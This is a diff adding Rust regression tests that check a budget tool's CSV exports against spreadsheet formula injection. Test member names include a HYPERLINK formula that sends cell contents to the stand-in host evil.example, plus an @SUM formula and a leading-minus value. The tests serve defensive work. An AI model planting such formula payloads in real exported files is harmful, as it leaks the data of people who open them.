@@ -206,3 +206,93 @@ fn a_budget_compares_its_ids_in_nfc() {
     let err = computed(parts("\u{C5}", "b", Some(twice))).unwrap_err();
     assert_eq!(err.code(), "duplicate_id");
 }
+
+/// The records of a CSV text, each a list of its cells unquoted (RFC 4180:
+/// a record ends at a line break outside quotes).
+fn records(csv: &str) -> Vec<Vec<String>> {
+    let (mut out, mut record, mut cell, mut quoted) =
+        (Vec::new(), Vec::new(), String::new(), false);
+    let mut chars = csv.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            ('"', _) => quoted = !quoted,
+            (',', false) => record.push(std::mem::take(&mut cell)),
+            ('\n' | '\r', false) => {
+                record.push(std::mem::take(&mut cell));
+                out.push(std::mem::take(&mut record));
+            }
+            (c, _) => cell.push(c),
+        }
+    }
+    assert!(!quoted && cell.is_empty(), "the CSV ends inside a cell");
+    out
+}
+
+/// Every cell of every record starts with no character a spreadsheet runs
+/// as a formula, every record has as many cells as the header, and `name`
+/// is found, neutralised, in the column called `column`.
+fn assert_safe(csv: &str, column: &str, name: &str) {
+    let rows = records(csv);
+    let width = rows[0].len();
+    let at = rows[0].iter().position(|h| h == column).unwrap();
+    assert!(rows.iter().all(|r| r.len() == width), "{csv}");
+    assert!(
+        rows[1..].iter().any(|r| r[at] == format!("'{name}")),
+        "{csv}"
+    );
+    for cell in rows.iter().flatten() {
+        let numeric = cell.parse::<andel::Decimal>().is_ok();
+        assert!(
+            numeric || !cell.starts_with(['=', '+', '@', '\t', '\r']),
+            "{cell:?} in {csv}"
+        );
+        assert!(numeric || !cell.starts_with('-'), "{cell:?} in {csv}");
+    }
+}
+
+const HOSTILE_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Båstad\")\r";
+
+#[test]
+fn every_csv_neutralises_formulas_and_quotes_a_bare_cr() {
+    let cycle = include_str!("../../examples/tillvaxtmotor-cycle.toml")
+        .replacen(
+            "name = \"Båstad\"",
+            "name = \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Båstad\\\")\\r\"",
+            1,
+        )
+        .replace("\"falkenberg\"", "\"-falkenberg\"")
+        .replacen("name = \"Falkenberg\"", "name = \"@SUM(A1:A9)\"", 1);
+    let plan = Plan::from_toml(&cycle).unwrap();
+    let result = plan.compute().unwrap();
+    assert_safe(&result.to_csv(), "name", HOSTILE_NAME);
+    assert_safe(&result.to_csv(), "member", "-falkenberg");
+    assert_safe(&result.to_csv(), "name", "@SUM(A1:A9)");
+    assert_safe(&result.year_csv(2022), "name", HOSTILE_NAME);
+    assert_eq!(
+        records(&result.year_csv(2022)).len(),
+        1 + result.years[1].members.len()
+    );
+    let settlement = plan.settle(&result, 2021).unwrap();
+    assert_safe(&settlement.to_csv(), "name", HOSTILE_NAME);
+    let invoices = plan.invoices(&result, 2022, Some(&settlement)).unwrap();
+    assert_safe(&invoices.to_csv(), "name", HOSTILE_NAME);
+    assert_safe(&invoices.to_csv(), "member", "-falkenberg");
+    let diff = andel::cycle::diff(&result, &result).unwrap();
+    assert_safe(&diff.to_csv(), "name", HOSTILE_NAME);
+    // Numbers are not text: a negative settlement keeps its minus.
+    assert!(
+        settlement
+            .members
+            .iter()
+            .any(|m| m.settlement < andel::Decimal::ZERO)
+    );
+    assert!(
+        records(&settlement.to_csv())[1..]
+            .iter()
+            .any(|r| r[5].starts_with('-'))
+    );
+}
